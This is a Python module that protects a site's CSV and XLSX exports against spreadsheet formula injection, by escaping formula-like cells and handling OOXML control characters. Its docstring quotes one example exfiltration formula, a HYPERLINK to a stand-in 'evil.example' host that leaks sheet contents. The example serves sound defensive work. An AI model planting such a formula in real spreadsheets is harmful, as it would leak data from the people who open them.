"""The one rule for every spreadsheet the site writes: no cell is ever read as a formula.

A spreadsheet program runs a cell starting with `=`, `+`, `-` or `@` (and, in some programs, a
tab or carriage return) as a formula, so a title such as
`=HYPERLINK("http://evil.example/?leak="&A1,"Click")` would send the sheet's contents away when
clicked. In CSV such a text gets a leading apostrophe, which spreadsheet programs read as "this
is text"; in XLSX every text is a string cell, so nothing needs adding. Numbers and empty cells
stay as they are.

Reading a CSV back removes exactly the apostrophe the export added, so an export imports back
unchanged. A text that itself starts with apostrophes before a trigger, such as `'=1`, gets one
more on export for the same reason."""

import io
import re

import openpyxl
from tablib import Dataset

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
# XLSX text is XML, which cannot hold most control characters and reads a carriage return as a
# line feed; the format writes such a character as _xHHHH_, and a literal _xHHHH_ with its
# underscore written as _x005F_.
OOXML_ESCAPE = re.compile(r"_x[0-9A-Fa-f]{4}_")
OOXML_LITERAL = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
OOXML_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f]")


def _needs_mark(text):
    """Whether `text`, after any apostrophes it starts with, begins like a formula."""
    return text.lstrip(TEXT_MARK).startswith(FORMULA_TRIGGERS)


def escape_cell(value):
    """The value as a CSV cell: a formula-like text with one apostrophe before it."""
    if isinstance(value, str) and _needs_mark(value):
        return TEXT_MARK + value
    return value


def unescape_cell(value):
    """The value a CSV cell written by `escape_cell` stood for."""
    if isinstance(value, str) and value.startswith(TEXT_MARK) and _needs_mark(value):
        return value[len(TEXT_MARK) :]
    return value


def _map_cells(dataset, function):
    mapped = Dataset(headers=[function(header) for header in dataset.headers or []])
    mapped.title = dataset.title
    for row in dataset:
        mapped.append([function(cell) for cell in row])
    return mapped


def escape_for_csv(dataset):
    """A copy of the dataset with every cell (headers included) escaped for CSV."""
    return _map_cells(dataset, escape_cell)


def unescape_from_csv(dataset):
    """A copy of a dataset read from CSV, with the apostrophes the export added removed."""
    return _map_cells(dataset, unescape_cell)


def ooxml_escape(text):
    text = OOXML_LITERAL.sub("_x005F_", text)
    return OOXML_UNSAFE.sub(lambda match: f"_x{ord(match.group()):04X}_", text)


def ooxml_unescape(text):
    return OOXML_ESCAPE.sub(lambda match: chr(int(match.group()[2:6], 16)), text)


def _text_cell(sheet, value):
    # Assigning a text starting with "=" makes openpyxl store a formula; the type is set
    # back to string after the assignment so that the cell holds the text itself.
    cell = openpyxl.cell.cell.Cell(sheet)
    cell.value = ooxml_escape(value)
    cell.data_type = "s"
    return cell


def _xlsx_cell(sheet, value):
    if value == "":
        return None
    if isinstance(value, str):
        return _text_cell(sheet, value)
    return value


def to_xlsx(dataset):
    """The dataset as an XLSX workbook (bytes): headers in the first row, every text a
    string cell, never a formula; numbers and dates keep their types, empty cells stay empty."""
    book = openpyxl.Workbook()
    sheet = book.active
    rows = [dataset.headers or [], *dataset]
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _read_value(value):
    if value is None:
        return ""
    if isinstance(value, str):
        return ooxml_unescape(value)
    return value


def from_xlsx(data):
    """The first sheet of an XLSX workbook (bytes) as a dataset, the first row its headers.
    An empty cell reads as empty text, as in CSV; a formula cell as the value it last showed;
    empty rows are left out."""
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    rows = book.active.iter_rows(values_only=True)
    headers = [_read_value(value) for value in next(rows, ())]
    dataset = Dataset(headers=headers)
    for row in rows:
        if any(value is not None for value in row):
            padding = [None] * (len(headers) - len(row))
            dataset.append([_read_value(value) for value in [*row, *padding]])
    book.close()
    return dataset
